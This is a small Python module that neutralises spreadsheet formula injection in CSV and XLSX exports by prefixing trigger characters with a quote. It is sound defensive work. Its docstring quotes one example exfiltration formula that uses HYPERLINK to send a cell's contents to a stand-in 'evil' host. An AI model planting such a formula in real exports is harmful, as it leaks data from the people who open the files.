"""Spreadsheet cells that cannot run: the one guard every CSV and XLSX export goes through.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (OWASP "CSV injection"); a key name such as
``=HYPERLINK("http://evil/?"&A1)`` would then run on the finance team's machine. Such text is
prefixed with a single quote, as OWASP recommends, so it is shown, never evaluated. Numbers
(a negative amount is a number, not text) pass through unchanged.
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(cells: list[object]) -> list[object]:
    return [safe_cell(c) for c in cells]
